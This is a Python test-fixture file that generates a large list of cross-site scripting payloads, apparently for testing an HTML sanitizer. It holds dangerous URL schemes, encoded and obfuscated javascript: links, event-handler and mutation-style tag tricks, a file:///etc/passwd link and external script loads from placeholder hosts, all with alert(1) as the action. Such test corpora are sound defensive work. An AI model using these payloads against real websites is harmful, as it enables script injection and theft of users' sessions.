"""HTML that would act in a browser, each line another way; written for these tests.

X stands for what is done: a call that a page must never make.
"""

X = "alert(1)"
SCHEMES = """javascript:X
JaVaScRiPt:X
 javascript:X
java&#10;script:X
java&#9;script:X
java&Tab;script:X
java&NewLine;script:X
&#106;avascript:X
&#x6A;avascript:X
&#0000106avascript:X
javascript&colon;X
javascript&#58;X
&#1;javascript:X
vbscript:msgbox(1)
VBSCRIPT:msgbox(1)
livescript:X
data:text/html,<script>X</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=X>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
blob:https://x.example/1
file:///etc/passwd
jar:https://x.example!/
view-source:javascript:X
feed:javascript:X
ms-its:x
mocha:X
about:blank
filesystem:https://x.example/x
intent://x#Intent;end
javascript://x.example/%0AX
javascript:/*https://x.example/*/X
//javascript:X
\\x01javascript:X""".splitlines()

LINKED = [
    piece.replace("U", scheme)
    for scheme in SCHEMES
    for piece in ('<a href="U">x</a>', '<img src="U">')
]

WHOLE = """<script>X</script>
<SCRIPT>X</SCRIPT>
<script src=https://x.example/x.js></script>
<script/src=https://x.example/x.js>
<scr<script>ipt>X</scr</script>ipt>
<<script>X//<</script>
<script>X
<script >X</script >
<script\\t>X</script\\n>
<noscript><p title="</noscript><img src=x onerror=X>">
<img src=x onerror=X>
<img src=x onerror="X">
<img/src=x/onerror=X>
<img src=x oNeRrOr=X>
<img src="x" onerror = 'X'>
<img src=`x`onerror=X>
<img "'"><script>X</script>">
<img src=x style="x:expression(X)">
<img lowsrc="javascript:X">
<img dynsrc="javascript:X">
<img srcset="javascript:X 2x">
<image src=x onerror=X>
<svg onload=X>
<svg/onload=X>
<svg><script>X</script></svg>
<svg><style><img src=x onerror=X></style></svg>
<svg><a xlink:href="javascript:X"><text>x</text></a></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<svg><foreignObject><iframe onload=X></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=X>">
<math><mtext><table><mglyph><style><img src=x onerror=X></style></mglyph></table></mtext></math>
<math href="javascript:X">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:X">x</maction></math>
<iframe src="javascript:X"></iframe>
<iframe srcdoc="<script>X</script>"></iframe>
<iframe onload=X>
<frameset onload=X>
<object data="javascript:X"></object>
<object type=text/x-scriptlet data=x></object>
<embed src="javascript:X">
<applet code=x></applet>
<form action="javascript:X"><input type=submit></form>
<form><button formaction="javascript:X">x</button></form>
<isindex action="javascript:X" type=image>
<input autofocus onfocus=X>
<select autofocus onfocus=X></select>
<textarea autofocus onfocus=X></textarea>
<keygen autofocus onfocus=X>
<body onload=X>
<body background="javascript:X">
<p onclick=X>x</p>
<p onmouseover="X">x</p>
<b onpointerenter=X>x</b>
<details open ontoggle=X><summary>x</summary></details>
<summary onclick=X>x</summary>
<blockquote cite="javascript:X" onwheel=X>x</blockquote>
<ul onscroll=X><li value="javascript:X">x</li></ul>
<video src=x onerror=X>
<video><source onerror=X></video>
<audio src=x onerror=X>
<marquee onstart=X>x</marquee>
<bgsound src="javascript:X">
<style>@import "https://x.example/x.css";</style>
<style>*{background:url(javascript:X)}</style>
<link rel=stylesheet href="https://x.example/x.css">
<link rel=import href="https://x.example/x">
<meta http-equiv=refresh content="0;url=javascript:X">
<base href="https://x.example/">
<p style="background:url(javascript:X)">x</p>
<p style="position:fixed;inset:0">x</p>
<p class="said" id="answer">x</p>
<a href="https://x.example" style="position:fixed" onclick=X>x</a>
<a href="https://x.example" target=_top ping="https://y.example">x</a>
<a href='https://x.example" onmouseover="X'>x</a>
<a href=https://x.example/"onmouseover=X>x</a>
<a name="x" id="x" href>x</a>
<table background="javascript:X"><td background="javascript:X">x</td></table>
<template><script>X</script></template>
<xmp><script>X</script></xmp>
<plaintext><script>X</script>
<listing>&lt;img src=x onerror=X&gt;</listing>
<title><img src=x onerror=X></title>
<!--><script>X</script>-->
<!--<img src="--><img src=x onerror=X>">
<![CDATA[<script>X</script>]]>
<?xml version="1.0"?><script>X</script>
<!DOCTYPE x [<!ENTITY y "<script>X</script>">]>
<x onclick=X>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">X</x:script>
<portal src="javascript:X" onload=X></portal>
<dialog open onclose=X>x</dialog>
<p><a><b></p><script>X</script></b></a>
<b><p><table><b><script>X</script></table></p></b>
<p title="&lt;script&gt;X&lt;/script&gt;">x</p>
&lt;script&gt;X&lt;/script&gt;
&amp;lt;script&amp;gt;X
<\\0script>X</script>
<img src=https://x.example/t.gif width=1 height=1>
<img src=//x.example/t.gif>
<img src="/unsubscribe/x">
<img src="/media/../unsubscribe/x.jpg">
<div><a href="https://x.example"><a href="javascript:X">x</a></a></div>""".splitlines()

PAYLOADS = [
    one.replace("X", X).replace("\\0", "\0").replace("\\x01", "\x01").replace("\\t", "\t").replace("\\n", "\n")
    for one in [*LINKED, *WHOLE]
]  # fmt: skip
